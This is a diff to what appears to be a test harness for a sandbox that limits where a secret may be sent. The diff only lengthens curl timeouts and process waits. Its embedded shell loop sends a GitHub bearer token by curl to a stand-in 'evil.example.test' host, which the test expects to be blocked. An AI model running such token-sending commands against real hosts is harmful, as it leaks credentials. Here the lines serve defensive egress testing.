@@ -31,9 +31,9 @@ LOAD = r"""
 n=0
 while [ $n -lt $ROUNDS ]; do
   n=$((n+1))
-  curl -sS -m 10 -H "Authorization: Bearer $GITHUB_TOKEN" "https://api.example.test/v1/$W-$n" -o /dev/null
-  curl -sS -m 10 -H "Authorization: Bearer $GITHUB_TOKEN" "https://evil.example.test/v1/$W-$n" -o /dev/null
-  curl -sS -m 10 -H "Authorization: Bearer $GITHUB_TOKEN" "https://shut.example.test/v1/$W-$n" -o /dev/null
+  curl -sS -m 20 -H "Authorization: Bearer $GITHUB_TOKEN" "https://api.example.test/v1/$W-$n" -o /dev/null
+  curl -sS -m 20 -H "Authorization: Bearer $GITHUB_TOKEN" "https://evil.example.test/v1/$W-$n" -o /dev/null
+  curl -sS -m 20 -H "Authorization: Bearer $GITHUB_TOKEN" "https://shut.example.test/v1/$W-$n" -o /dev/null
 done 2>/dev/null
 """
 # evil is denied by name. shut may be spoken with, but not with this secret.
@@ -106,7 +106,7 @@ class Storm:
         for p in self.runners:
             kill_own(p.pid, signal.SIGTERM)
         for p in self.runners:
-            p.wait(60 * slow_build())
+            p.wait(180 * slow_build())
 
 
 def bot(c, name, policy):
@@ -220,7 +220,7 @@ def storm(c, net, api, evil, shut, kills):
     again = s.runner()
     tap.ok(wait_for(lambda: len(api.requests) > before, PATIENCE), f"{who}: after it all requests arrive again")
     kill_own(again.pid, signal.SIGTERM)
-    again.wait(60 * slow_build())
+    again.wait(180 * slow_build())
     nothing_lost(c)
     r = c("rm", "-f", "ann", "bob")
     tap.eq(r.code, 0, f"{who}: they are removed", r)
@@ -244,7 +244,7 @@ def main():
         api = net.https("api.example.test", lambda q: "welcome" if TOKEN in q.headers.get("Authorization", "") else (401, {}, ""))
         evil, shut = net.https("evil.example.test"), net.https("shut.example.test")
         for host in ("evil", "shut"):
-            r = net.run_as("root", ["curl", "-sS", "-m", "20", f"https://{host}.example.test/control"])
+            r = net.run_as("root", ["curl", "-sS", "-m", "60", f"https://{host}.example.test/control"])
             tap.eq(r.returncode, 0, f"{host} could be reached, were it allowed", r)
         for w in who:
             with net.coffer(w) as c:
